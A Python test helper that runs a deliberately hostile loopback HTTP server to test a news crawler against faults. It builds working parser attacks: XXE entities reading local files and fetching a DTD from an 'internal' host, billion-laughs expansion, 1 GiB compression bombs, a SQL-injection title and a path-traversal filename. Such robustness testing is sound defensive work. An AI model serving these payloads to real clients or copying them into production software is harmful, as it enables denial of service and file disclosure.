"""A hostile HTTP server for tests: news articles plus every fault a crawler meets.

Run as ``python -m tests.support.hostile_server``; it binds three loopback hosts on one shared
port, prints one JSON line ``{"port": N, "hosts": {"site": "http://127.0.0.20:N",
"other": "http://127.0.0.21:N", "internal": "http://127.0.0.99:N"}}`` and serves until
killed. ``site`` is the crawled site, ``other`` another site (a seed in some tests),
``internal`` stands for an address a crawler must never contact: it answers anything,
and its log shows whether it was.

Routes on every host (``D`` is ``/2024/05/12``; ``S`` any slug):

- ``/links/?to=URL&to=URL``: a listing page linking to each URL (start page of a test).
- ``/feed/?to=URL...``, ``/sitemap/?to=URL...``: an RSS feed / a sitemap listing them.
- ``D/S/``: a news article (og:type article, JSON-LD NewsArticle, ~400 words, text
  unique to ``S``), with an ETag (a matching If-None-Match gets a 304). Its slug's
  prefix picks a behaviour:
  ``flaky-`` 503 while the server is ``down``; ``retryafter-`` 429 with
  ``Retry-After: 1`` on the first request; ``retrylater-`` 429 with ``Retry-After: 3600``;
  ``backoff-`` 503 on the first two requests;
  ``slow-`` answers after ``delay`` seconds; ``hangextract-`` / ``crashextract-``
  carry a marker that makes ``tests.support.hostile_extract`` hang or crash; ``sql-`` and
  ``traversal-`` have hostile titles; ``cookie-`` sets a cookie.
- ``D/silent-S/``, ``D/hang-S/``, ``D/trickle-S/``: no answer; headers then nothing;
  a byte every 50 ms, forever.
- ``D/drop-S/``, ``D/dropchunked-S/``, ``D/dropclose-S/``: half the article, then the
  connection is closed (Content-Length; chunked; neither, close-delimited).
- ``D/shortlength-S/``: a Content-Length of half the article; ``D/gzipcut-S/``: a gzip
  body cut short with a Content-Length that matches the cut.
- ``D/status-N-S/``: status N.
- ``/redirect/?url=URL`` (302), ``/redirect/loop-a/`` <-> ``/redirect/loop-b/``,
  ``/redirect/self/``, ``/redirect/chain-N/`` (N hops, then an article),
  ``/refresh/?url=URL`` (a meta refresh).
- ``D/bomb-ENC/`` (ENC gzip, deflate, br, zstd): 1 GiB of zeros, compressed;
  ``/bomb.xml.gz``: a sitemap that gunzips to 1 GiB.
- ``D/deep-S/`` 100,000 nested elements; ``D/huge-S/`` 50 MB of markup with its
  Content-Length, ``D/hugechunked-S/`` without; ``D/nul-S/``, ``D/binary-S/``,
  ``D/pdf-S/`` served as text/html; ``D/latin1label-S/`` UTF-8 declared ISO-8859-1;
  ``D/utf8label-S/`` cp1252 declared UTF-8; ``D/doubleutf8-S/`` UTF-8 encoded twice.
- ``/xxe/sitemap.xml?file=PATH``, ``/xxe/feed.xml?file=PATH``: external entities (a
  local file, a DTD on ``internal``); ``/laughs/sitemap.xml``, ``/laughs/feed.xml``:
  exponential entity expansion.
- ``/__control__/log`` (every request: host, path, headers, time), ``/__control__/reset``,
  ``/__control__/set?down=1&delay=0.2``.
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import json
import random
import re
import select
import socket
import sys
import threading
import time
import zlib
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit

HOSTS = {"site": "127.0.0.20", "other": "127.0.0.21", "internal": "127.0.0.99"}
DATE = "/2024/05/12/"
HANG_MARKER = "NEWSARCHIVE-TEST-HANG"
CRASH_MARKER = "NEWSARCHIVE-TEST-CRASH"
SQL_TITLE = "'); DROP TABLE articles;-- \" \\ %s :name {0} ☃"
TRAVERSAL_TITLE = "../../../../tmp/pwned/..\\..\\evil name\x00.jsonl"
BOMB_SIZE = 1 << 30
_CHUNK = 1 << 24
_WORDS = [
    "harbour",
    "council",
    "budget",
    "vote",
    "river",
    "bridge",
    "school",
    "teachers",
    "strike",
    "market",
    "prices",
    "weather",
    "storm",
    "coast",
    "farmers",
    "harvest",
    "police",
    "inquiry",
    "minister",
    "election",
    "campaign",
    "hospital",
    "nurses",
    "train",
    "station",
    "museum",
    "exhibition",
    "festival",
    "football",
    "club",
    "season",
    "mayor",
    "plan",
    "housing",
    "rents",
    "tenants",
    "factory",
    "jobs",
    "exports",
    "energy",
    "wind",
    "solar",
    "grid",
    "court",
    "ruling",
    "judge",
    "appeal",
    "report",
    "survey",
    "residents",
    "protest",
    "street",
    "traffic",
]
_SLUG = re.compile(r"^/2024/05/12/([a-z0-9]+)-([\w.%-]+)/$")


class State:
    """What the server remembers: its log, per-path counters and switches."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.log: list[dict[str, Any]] = []
        self.counts: dict[str, int] = {}
        self.down = False
        self.delay = 0.0

    def record(self, host: str, handler: BaseHTTPRequestHandler) -> int:
        with self.lock:
            self.log.append(
                {
                    "host": host,
                    "path": handler.path,
                    "headers": {k.lower(): v for k, v in handler.headers.items()},
                    "time": time.time(),
                }
            )
            key = f"{host} {urlsplit(handler.path).path}"
            self.counts[key] = self.counts.get(key, 0) + 1
            return self.counts[key]


# --- content ------------------------------------------------------------------------


def article_text(slug: str, paragraphs: int = 6) -> list[str]:
    rng = random.Random(slug)
    out = []
    for _ in range(paragraphs):
        sentences = []
        for _ in range(5):
            words = [rng.choice(_WORDS) for _ in range(rng.randint(10, 16))]
            sentences.append(" ".join(words).capitalize() + ".")
        out.append(" ".join(sentences))
    return out


def article_title(slug: str) -> str:
    if slug.startswith("sql-"):
        return SQL_TITLE
    if slug.startswith("traversal-"):
        return TRAVERSAL_TITLE
    words = random.Random("title" + slug).sample(_WORDS, 6)
    return f"Story {slug}: " + " ".join(words).capitalize()


def _escape(text: str) -> str:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    )


def article_html(slug: str, *, marker: str = "", extra: str = "", charset: str = "utf-8") -> str:
    title = article_title(slug)
    body = "\n".join(f"<p>{_escape(p)}</p>" for p in article_text(slug))
    ld = json.dumps(
        {
            "@context": "https://schema.org",
            "@type": "NewsArticle",
            "headline": title,
            "datePublished": "2024-05-12T08:30:00Z",
            "author": {"@type": "Person", "name": "Ann Reporter"},
        }
    )
    return f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="{charset}">
<title>{_escape(title)}</title>
<meta property="og:type" content="article">
<meta property="og:title" content="{_escape(title)}">
<meta name="author" content="Ann Reporter">
<meta property="article:published_time" content="2024-05-12T08:30:00Z">
<script type="application/ld+json">{ld}</script>
</head><body>
<header><nav><a href="/">Home</a> <a href="/links/">News</a></nav></header>
<main><article>
<h1>{_escape(title)}</h1>
<p class="byline">By Ann Reporter, 12 May 2024</p>
{body}
{extra}
<p>{marker}</p>
</article></main>
<footer><p>Copyright The Hostile Herald</p></footer>
</body></html>
"""


def listing_html(targets: list[str]) -> str:
    links = "\n".join(f'<li><a href="{_escape(t)}">{_escape(t)}</a></li>' for t in targets)
    return (
        "<!DOCTYPE html><html><head><title>Index</title>"
        '<meta property="og:type" content="website"></head>'
        f"<body><h1>Index</h1><ul>\n{links}\n</ul></body></html>"
    )


def feed_xml(targets: list[str]) -> str:
    items = "".join(
        f"<item><title>{i}</title><link>{_escape(t)}</link>"
        "<pubDate>Sun, 12 May 2024 08:30:00 +0000</pubDate></item>"
        for i, t in enumerate(targets)
    )
    return (
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>F</title>{items}</channel></rss>'
    )


def sitemap_xml(targets: list[str]) -> str:
    urls = "".join(f"<url><loc>{_escape(t)}</loc></url>" for t in targets)
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{urls}</urlset>'
    )


def xxe_xml(kind: str, secret_file: str, internal: str) -> str:
    doctype = (
        f'<!DOCTYPE r SYSTEM "{internal}/xxe.dtd" [\n'
        f'<!ENTITY secret SYSTEM "file://{secret_file}">\n'
        f'<!ENTITY remote SYSTEM "{internal}/xxe-entity">\n'
        f'<!ENTITY % param SYSTEM "{internal}/xxe-param"> %param;\n]>'
    )
    loc = f"{internal}/leak/&secret;/&remote;/"
    if kind == "feed":
        return (
            f'<?xml version="1.0"?>\n{doctype}\n<rss version="2.0"><channel><title>x</title>'
            f"<item><title>&secret;</title><link>{loc}</link></item></channel></rss>"
        )
    return (
        f'<?xml version="1.0"?>\n{doctype}\n'
        f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{loc}</loc></url></urlset>'
    )


def laughs_xml(kind: str, internal: str) -> str:
    entities = ['<!ENTITY l0 "lol">'] + [
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    ]
    doctype = "<!DOCTYPE r [\n" + "\n".join(entities) + "\n]>"
    if kind == "feed":
        return (
            f'<?xml version="1.0"?>\n{doctype}\n<rss version="2.0"><channel><title>&l9;</title>'
            f"<item><title>&l9;</title><link>{internal}/laughs/&l9;</link></item></channel></rss>"
        )
    return (
        f'<?xml version="1.0"?>\n{doctype}\n'
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"<url><loc>{internal}/laughs/&l9;</loc></url></urlset>"
    )


@cache
def bomb(encoding: str) -> bytes:
    """1 GiB of zeros in ``encoding``, built without compressing 1 GiB where possible."""
    zeros = b"\0" * _CHUNK
    repeats = BOMB_SIZE // _CHUNK
    if encoding == "gzip":  # concatenated gzip members are one valid gzip stream
        return gzip.compress(zeros, 9, mtime=0) * repeats
    if encoding == "deflate":  # full-flushed blocks can repeat: each stands alone
        raw = zlib.compressobj(9, zlib.DEFLATED, -15)
        block = raw.compress(zeros) + raw.flush(zlib.Z_FULL_FLUSH)
        adler = 1
        for _ in range(repeats):
            adler = zlib.adler32(zeros, adler)
        final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
        return b"\x78\xda" + block * repeats + final + adler.to_bytes(4, "big")
    if encoding == "br":
        import brotli

        compressor = brotli.Compressor(quality=1, lgwin=24)
        return b"".join(compressor.process(zeros) for _ in range(repeats)) + compressor.finish()
    if encoding == "zstd":
        import zstandard

        zc = zstandard.ZstdCompressor(level=1).compressobj()
        return b"".join(zc.compress(zeros) for _ in range(repeats)) + zc.flush()
    raise ValueError(encoding)


@cache
def sitemap_bomb() -> bytes:
    head = b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
    filler = b"<!-- " + b"x" * (_CHUNK - 10) + b" -->"
    member = gzip.compress(filler, 9, mtime=0)
    return gzip.compress(head, mtime=0) + member * (BOMB_SIZE // _CHUNK)


# --- the server ---------------------------------------------------------------------


class HostileServer(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, name: str, addr: Any, state: State, origins: dict[str, str]) -> None:
        super().__init__(addr, Handler)
        self.name = name
        self.state = state
        self.origins = origins


class Handler(BaseHTTPRequestHandler):
    server: HostileServer
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: Any) -> None:
        pass

    # --- plumbing ---------------------------------------------------------------------

    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        if parts.path.startswith("/__control__/"):
            self.control(parts.path, parse_qs(parts.query))
            return
        count = self.server.state.record(self.server.name, self)
        try:
            self.route(parts.path, parse_qs(parts.query), count)
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True

    def send_body(
        self,
        status: int,
        body: bytes | str,
        content_type: str = "text/html; charset=utf-8",
        headers: dict[str, str] | None = None,
    ) -> None:
        data = body.encode("utf-8") if isinstance(body, str) else body
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def raw(self, data: bytes, *, close: bool = True) -> None:
        self.wfile.write(data)
        self.wfile.flush()
        if close:
            self.close_connection = True
            self.connection.shutdown(socket.SHUT_RDWR)

    def wait_for_client_to_leave(self, limit: float = 120.0) -> None:
        deadline = time.monotonic() + limit
        while time.monotonic() < deadline:
            readable, _, _ = select.select([self.connection], [], [], 0.5)
            if readable and not self.connection.recv(1024):
                break
        self.close_connection = True

    def control(self, path: str, query: dict[str, list[str]]) -> None:
        state = self.server.state
        if path == "/__control__/reset":
            with state.lock:
                state.log.clear()
                state.counts.clear()
                state.down, state.delay = False, 0.0
        elif path == "/__control__/set":
            with state.lock:
                if "down" in query:
                    state.down = query["down"][0] == "1"
                if "delay" in query:
                    state.delay = float(query["delay"][0])
        with state.lock:
            data = json.dumps({"log": state.log, "counts": state.counts})
        self.send_body(200, data, "application/json")

    # --- routes ----------------------------------------------------------------------------

    def route(self, path: str, query: dict[str, list[str]], count: int) -> None:
        if self.server.name == "internal":
            self.send_body(200, "<html><body><p>internal secret</p></body></html>")
            return
        targets = query.get("to", [])
        if path == "/links/":
            self.send_body(200, listing_html(targets))
        elif path == "/feed/":
            self.send_body(200, feed_xml(targets), "application/rss+xml")
        elif path == "/sitemap/":
            self.send_body(200, sitemap_xml(targets), "application/xml")
        elif path == "/robots.txt":
            self.send_body(200, "User-agent: *\nAllow: /\n", "text/plain")
        elif path.startswith("/redirect/"):
            self.redirect(path, query)
        elif path == "/refresh/":
            url = query["url"][0]
            self.send_body(
                200,
                f'<html><head><meta http-equiv="refresh" content="0; url={_escape(url)}">'
                "</head><body>moved</body></html>",
            )
        elif path.startswith(("/xxe/", "/laughs/")):
            self.xml_attack(path, query)
        elif path == "/bomb.xml.gz":
            self.send_body(200, sitemap_bomb(), "application/x-gzip")
        elif match := _SLUG.match(path):
            self.page(match.group(1), f"{match.group(1)}-{match.group(2)}", count)
        else:
            self.send_body(404, "not found")

    def redirect(self, path: str, query: dict[str, list[str]]) -> None:
        name = path.strip("/").split("/", 1)[1] if path.count("/") > 2 else ""
        if "url" in query:
            target = query["url"][0]
        elif name == "loop-a":
            target = "/redirect/loop-b/"
        elif name == "loop-b":
            target = "/redirect/loop-a/"
        elif name == "self":
            target = "/redirect/self/"
        elif name.startswith("chain-"):
            left = int(name.removeprefix("chain-"))
            target = f"/redirect/chain-{left - 1}/" if left > 1 else f"{DATE}chained-{left}/"
        else:
            self.send_body(404, "no such redirect")
            return
        self.send_body(302, "", "text/plain", {"Location": target})

    def xml_attack(self, path: str, query: dict[str, list[str]]) -> None:
        internal = self.server.origins["internal"]
        kind = "feed" if path.endswith("feed.xml") else "sitemap"
        if path.startswith("/xxe/"):
            body = xxe_xml(kind, query.get("file", ["/etc/hostname"])[0], internal)
        else:
            body = laughs_xml(kind, internal)
        self.send_body(200, body, "application/xml")

    def page(self, kind: str, slug: str, count: int) -> None:
        state = self.server.state
        fault = getattr(self, f"fault_{kind}", None)
        if fault is not None:
            fault(slug, count)
            return
        if kind == "flaky" and state.down:
            self.send_body(503, "down for maintenance")
        elif kind == "retryafter" and count == 1:
            self.send_body(429, "slow down", headers={"Retry-After": "1"})
        elif kind == "retrylater":
            self.send_body(429, "come back in an hour", headers={"Retry-After": "3600"})
        elif kind == "backoff" and count <= 2:
            self.send_body(503, "try again")
        elif kind == "cookie":
            headers = {"Set-Cookie": "session=COOKIE-SECRET; Path=/"}
            self.send_body(200, article_html(slug), headers=headers)
        else:
            if kind == "slow" and state.delay:
                time.sleep(state.delay)
            marker = {"hangextract": HANG_MARKER, "crashextract": CRASH_MARKER}.get(kind, "")
            html = article_html(slug, marker=marker).encode()
            etag = '"' + hashlib.sha1(html).hexdigest()[:16] + '"'
            if self.headers.get("If-None-Match") == etag:
                self.send_body(304, b"", headers={"ETag": etag})
            else:
                self.send_body(200, html, headers={"ETag": etag})

    # --- network faults ------------------------------------------------------------------

    def fault_silent(self, slug: str, count: int) -> None:
        self.wait_for_client_to_leave()

    def fault_hang(self, slug: str, count: int) -> None:
        self.raw(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 50000\r\n\r\n<html>",
            close=False,
        )
        self.wait_for_client_to_leave()

    def fault_trickle(self, slug: str, count: int) -> None:
        self.raw(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 1000000\r\n\r\n",
            close=False,
        )
        body = article_html(slug).encode() * 100
        for byte in range(len(body)):
            self.wfile.write(body[byte : byte + 1])
            self.wfile.flush()
            time.sleep(0.05)

    def _half(self, slug: str) -> tuple[bytes, bytes]:
        body = article_html(slug).encode()
        return body, body[: len(body) // 2]

    def fault_drop(self, slug: str, count: int) -> None:
        body, half = self._half(slug)
        head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {len(body)}\r\n\r\n"
        self.raw(head.encode() + half)

    def fault_dropchunked(self, slug: str, count: int) -> None:
        _, half = self._half(slug)
        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nTransfer-Encoding: chunked\r\n\r\n"
        chunks = b"".join(
            b"%x\r\n%s\r\n" % (len(half[i : i + 500]), half[i : i + 500])
            for i in range(0, len(half), 500)
        )
        self.raw(head + chunks)

    def fault_dropclose(self, slug: str, count: int) -> None:
        _, half = self._half(slug)
        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nConnection: close\r\n\r\n"
        self.raw(head + half)

    def fault_shortlength(self, slug: str, count: int) -> None:
        body, half = self._half(slug)
        head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {len(half)}\r\n\r\n"
        self.raw(head.encode() + body)

    def fault_gzipcut(self, slug: str, count: int) -> None:
        body = gzip.compress(article_html(slug).encode(), mtime=0)
        cut = body[: len(body) * 6 // 10]
        self.send_body(200, cut, headers={"Content-Encoding": "gzip"})

    def fault_status(self, slug: str, count: int) -> None:
        code = int(slug.split("-")[1])
        self.send_body(code, f"status {code}")

    # --- hostile content -----------------------------------------------------------------

    def fault_bomb(self, slug: str, count: int) -> None:
        encoding = slug.split("-", 1)[1]
        self.send_body(200, bomb(encoding), headers={"Content-Encoding": encoding})

    def fault_deep(self, slug: str, count: int) -> None:
        n = 100_000
        html = article_html(slug).replace("<main>", "<main>" + "<div>" * n)
        self.send_body(200, html.replace("</main>", "</div>" * n + "</main>"))

    def _huge_chunks(self, slug: str) -> tuple[bytes, int]:
        unit = b"<div><span>" + article_text(slug, 1)[0].encode() + b"</span></div>\n"
        return unit * (1_000_000 // len(unit)), 50_000_000

    def fault_huge(self, slug: str, count: int) -> None:
        chunk, total = self._huge_chunks(slug)
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(total // len(chunk) * len(chunk)))
        self.end_headers()
        for _ in range(total // len(chunk)):
            self.wfile.write(chunk)

    def fault_hugechunked(self, slug: str, count: int) -> None:
        chunk, total = self._huge_chunks(slug)
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        for _ in range(total // len(chunk)):
            self.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
        self.wfile.write(b"0\r\n\r\n")

    def fault_nul(self, slug: str, count: int) -> None:
        self.send_body(200, b"\0" * 200_000)

    def fault_binary(self, slug: str, count: int) -> None:
        self.send_body(200, random.Random(slug).randbytes(200_000))

    def fault_pdf(self, slug: str, count: int) -> None:
        text = " ".join(article_text(slug)).encode()
        pdf = (
            b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\nstream\n"
            + text
            + b"\nendstream\n%%EOF\n"
        )
        self.send_body(200, pdf)

    def _accented(self, slug: str) -> str:
        extra = "<p>" + "Le café de la gare a fermé à Zürich, déjà l'été. " * 20 + "</p>"
        return article_html(slug, extra=extra)

    def fault_latin1label(self, slug: str, count: int) -> None:
        html = self._accented(slug).replace('charset="utf-8"', 'charset="iso-8859-1"')
        self.send_body(200, html.encode("utf-8"), "text/html; charset=iso-8859-1")

    def fault_utf8label(self, slug: str, count: int) -> None:
        self.send_body(200, self._accented(slug).encode("cp1252"), "text/html; charset=utf-8")

    def fault_doubleutf8(self, slug: str, count: int) -> None:
        twice = self._accented(slug).encode("utf-8").decode("latin-1").encode("utf-8")
        self.send_body(200, twice, "text/html; charset=utf-8")


def url_list(paths: list[str]) -> str:
    """``/links/`` query for ``paths`` (relative paths or absolute URLs)."""
    return "&".join(f"to={quote(p, safe='')}" for p in paths)


def start_servers(port: int = 0) -> tuple[int, dict[str, str], list[HostileServer]]:
    for _attempt in range(20):
        state = State()
        origins: dict[str, str] = {}
        servers: list[HostileServer] = []
        try:
            chosen = port
            for name, ip in HOSTS.items():
                server = HostileServer(name, (ip, chosen), state, origins)
                chosen = server.server_address[1]
                origins[name] = f"http://{ip}:{chosen}"
                servers.append(server)
        except OSError:
            for server in servers:
                server.server_close()
            if port:
                raise
            continue
        for server in servers:
            threading.Thread(target=server.serve_forever, daemon=True).start()
        return chosen, origins, servers
    raise OSError("no free port shared by all hostile hosts")


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, default=0)
    args = parser.parse_args()
    port, origins, _servers = start_servers(args.port)
    print(json.dumps({"port": port, "hosts": origins}), flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(0)
